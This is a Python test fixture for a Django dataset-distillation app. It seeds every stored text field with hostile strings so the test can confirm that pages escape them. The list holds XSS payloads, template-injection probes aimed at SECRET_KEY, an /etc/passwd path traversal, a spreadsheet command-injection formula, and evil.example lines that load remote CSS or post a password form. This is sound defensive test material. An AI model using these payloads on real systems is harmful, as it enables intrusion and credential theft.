"""Text as an enemy writes it, and a site that is full of it (invariant 8)."""

from __future__ import annotations

from datetime import timedelta
from typing import Any

from django.contrib.auth.models import User
from django.utils import timezone

from distill.logic.reasons import Reason
from distill.logic.templates import SHIPPED
from distill.models import (
    CompletionState,
    Dataset,
    Decision,
    RefusedRow,
    Run,
    RunEvent,
    SampleDraw,
    SourceFile,
    Verdict,
)
from distill.services.export import export_dataset
from review.models import Queue
from review.services.claim import claim_next
from review.services.fill import fill_queues
from tests.builders import (
    let_read,
    make_completion,
    make_judgement,
    make_label,
    make_reading,
    make_recipe,
    make_run,
    make_sample,
    make_shift,
    make_training_run,
    make_user,
)
from training.models import Evaluation, Metric, TrainingRun

# Each would do harm in some place: an element, an attribute, a script, an address, a template.
# What becomes an element or an attribute is known by the name xss-probe.
ATTACKS = (
    "<xss-probe onload=alert(1)>",
    "<script>alert('xss')</script>",
    "</script><script>alert(2)</script>",
    "</textarea></title></style>--><img src=x onerror=alert(3)>",
    '" onmouseover="alert(4)" x="',
    "' autofocus onfocus='alert(5)",
    "javascript:alert(6)",
    "[a](javascript:alert(7))",
    "{{ settings.SECRET_KEY }}",
    "{% include 'registration/login.html' %}{% debug %}",
    "{% csrf_token %}{# gone #}${7*7}",
    "&lt;xss-probe&gt;&#60;xss-probe&#62;",
    "../../../../etc/passwd",
    "\u202egnp.exe\u202c\u200b\ufeff",
    "=cmd|'/c calc'!A1",
    "http://evil.example/?<svg/onload=alert(8)>",
    "<ScRiPt xss-probe>alert(9)</sCrIpT>",
    "<svg><xss-probe/onload=alert(10)><animate xss-probe onbegin=alert(10) attributeName=x>",
    "<iframe xss-probe srcdoc='<script>alert(11)</script>'></iframe>",
    "<noscript><p title='</noscript><img xss-probe src=x onerror=alert(12)>'>",
    "<math><mi xss-probe xlink:href='data:text/html,<script>alert(13)</script>'>x</mi></math>",
    "<details xss-probe open ontoggle=alert(14)>",
    "<a xss-probe href='java\tscript:alert(15)'>x</a>",
    "<style xss-probe>@import'http://evil.example/x.css';</style>",
    "<meta xss-probe http-equiv=refresh content='0;url=javascript:alert(16)'>",
    "<base xss-probe href=//evil.example/>",
    "<form xss-probe action=http://evil.example/><input name=password>",
    "<template xss-probe><p hx-get=/logout/ hx-trigger=load hx-on::load=alert(17)></template>",
    '" xss-probe hx-get="/logout/" hx-trigger="load" x="',
    "' xss-probe style='position:fixed' x='",
    "` xss-probe onclick=alert(18) `",
    "![a](javascript:alert(19)) <javascript:alert(20)> [b]: data:text/html,x",
    "\\u003cxss-probe\\u003e \\x3cxss-probe\\x3e %3Cxss-probe%3E \uff1cxss-probe\uff1e",
    "<![CDATA[<xss-probe>]]> <!--><xss-probe>--> <?xml <xss-probe>?>",
    "{{constructor.constructor('alert(21)')()}}",
)
WORD = "W" * 3_000
ALL = " ".join(ATTACKS)
SHORT = "<xss-probe onload=alert(1)>\"'{{ settings.SECRET_KEY }}"
ADDRESS = "openai:<xss-probe/onload=alert(1)>\"'{{settings.SECRET_KEY}}"


class Hostile:
    """One of each object that a page shows, with hostile text wherever text is kept."""

    def __init__(self) -> None:
        self.recipe = _recipe()
        # The site's own forms would refuse this name; a page must not rely on that.
        self.dataset = Dataset.objects.create(name=SHORT[:100], description=ALL)
        self.run = make_run(
            self.dataset,
            recipe=self.recipe,
            state=Run.State.FAILED,
            message=ALL,
            is_populated=True,
            finished_at=timezone.now(),
        )
        shift = make_shift(self.run, host=ALL[:255], began=timezone.now() - timedelta(minutes=1))
        for second in (50, 30, 10):
            at = timezone.now() - timedelta(seconds=second)
            make_reading(shift, at, teacher=ALL, failures={SHORT: 1}, state="open")
        for level in RunEvent.Level:
            RunEvent.objects.create(run=self.run, level=level, message=f"{ALL} {WORD}")
        self.source_file = _source_file(self.dataset)
        self.completion = self._rejected()
        self.accepted = self._passed("accepted")
        self._passed("rejected")
        self._passed("")
        self._failed()
        fill_queues(dataset_id=self.dataset.pk)
        self.queue = Queue.objects.get(dataset=self.dataset)
        self.export = self._export()
        self.training_run = self._training_run()

    def claim(self, reviewer: User) -> None:
        """Put a hostile card before the reviewer."""
        let_read(self.queue, reviewer)
        assert claim_next(queue_id=self.queue.pk, reviewer=reviewer, now=timezone.now())

    def _sample(self) -> Any:
        return make_sample(
            self.dataset,
            source_file=self.source_file,
            text=f"{ALL}\n\n{WORD}\n{ALL}",
            title=ALL,
            instruction=ALL,
            domain=SHORT[:100],
            source_key=ALL[:200],
            metadata={SHORT: ALL, "list": [ALL, {SHORT: SHORT}]},
        )

    def _completion(self, **fields: Any) -> Any:
        completion = make_completion(
            self._sample(),
            recipe=self.recipe,
            teacher=ADDRESS,
            model=SHORT,
            finish_reason=SHORT[:40],
            text=f"{ALL} {WORD}",
            fields={"hypothesis": f"{ALL} {WORD}", "methodology": ALL, SHORT: ALL},
            **fields,
        )
        make_judgement(
            completion,
            judge=SHORT[:40],
            teacher=ADDRESS,
            rubric_version=SHORT[:40],
            scores={SHORT: 0.5},
            rationale=ALL,
            flags=[SHORT, ALL[:100]],
        )
        make_judgement(completion, judge="broken", error=ALL, scores={SHORT: 0.1})
        return completion

    def _draw(self, completion: Any, state: str, **fields: Any) -> Any:
        evidence = [{"reason": Reason.CITATION.value, "detail": ALL, "start": 0, "end": 9}]
        verdict = Verdict.objects.create(
            completion=completion,
            recipe=self.recipe,
            run=self.run,
            passed=state == "passed",
            stage="" if state == "passed" else "rules",
            reasons=[] if state == "passed" else [Reason.CITATION],
            evidence=evidence,
            mean_score=0.5,
        )
        CompletionState.objects.filter(completion=completion).update(verdict=verdict)
        return SampleDraw.objects.create(
            run=self.run,
            sample=completion.sample,
            state=state,
            completion=completion,
            verdict=verdict,
            **fields,
        )

    def _rejected(self) -> Any:
        completion = self._completion(state="rejected", reasons=[Reason.CITATION])
        self._draw(completion, "rejected")
        return completion

    def _passed(self, outcome: str) -> Any:
        completion = self._completion()
        self._draw(completion, "passed")
        if outcome:
            reviewer = make_user("reviewer", name=f"{SHORT}-{outcome}")
            make_label(completion, outcome=outcome, reviewer=reviewer)
            Decision.objects.create(
                completion=completion,
                reviewer=reviewer,
                kind=Decision.Kind.FLAG,
                note=ALL,
                fields={"hypothesis": ALL, SHORT: ALL},
            )
        return completion

    def _failed(self) -> None:
        SampleDraw.objects.create(
            run=self.run,
            sample=self._sample(),
            state=SampleDraw.State.FAILED,
            failure_kind="server",
            failure_message=ALL,
        )

    def _export(self) -> Any:
        """Of a dataset whose name can be a folder's; its rows are as hostile as the others."""
        name = self.dataset.name
        Dataset.objects.filter(pk=self.dataset.pk).update(name="hostile")
        self.dataset.refresh_from_db()
        export = export_dataset(dataset=self.dataset, policy="reviewed")
        Dataset.objects.filter(pk=self.dataset.pk).update(name=name)
        self.dataset.refresh_from_db()
        return export

    def _training_run(self) -> Any:
        run = make_training_run(
            self.export,
            log=f"{ALL}\n\x1b[31m{ALL}\x1b]8;;javascript:alert(6)\x07{WORD}\n".encode(),
            num_steps=3,
            name=SHORT[:100],
            tags=[SHORT[:50], "'\"><xss-probe>"],
            state=TrainingRun.State.FAILED,
            message=ALL,
            host=SHORT,
            source={"name": ALL, "sha256": SHORT, "rows": {SHORT: 1}},
            result={
                "device": ALL,
                "versions": {SHORT: ALL},
                "rows": {SHORT: {"kept": 1, "dropped": 1, "too_long": 1, "longest": 9}},
            },
        )
        run.spec |= {"name": SHORT[:100], "student": ALL[:300], "tags": []}
        run.save(update_fields=["spec"])
        Metric.objects.filter(training_run=run, step=3).update(values={"loss": 1, SHORT: ALL})
        Evaluation.objects.create(
            training_run=run, recipe=self.recipe, sample_limit=1, message=ALL, host=SHORT
        )
        return run


def _recipe() -> Any:
    template = SHIPPED["pair"].model_dump()
    system = "<xss-probe onload=alert(1)> </script> {% include 'x' %} javascript:alert(6)"
    return make_recipe(
        name="hostile",
        teacher={"name": ADDRESS.replace(" ", "")},
        judges=[{"name": SHORT[:40], "teacher": ADDRESS.replace(" ", "")}],
        templates={"pair": template | {"system": system}},
    )


def _source_file(dataset: Dataset) -> SourceFile:
    file = SourceFile.objects.create(
        dataset=dataset,
        name=f"../../{SHORT}.jsonl",
        sha256="0" * 64,
        size_bytes=1,
        mapping={"text": SHORT, SHORT: ALL},
        state=SourceFile.State.FAILED,
        message=ALL,
        rows_read=2,
        rows_refused=1,
    )
    RefusedRow.objects.create(
        source_file=file, line=1, field=SHORT[:100], message=ALL, excerpt=ATTACKS[14]
    )
    return file
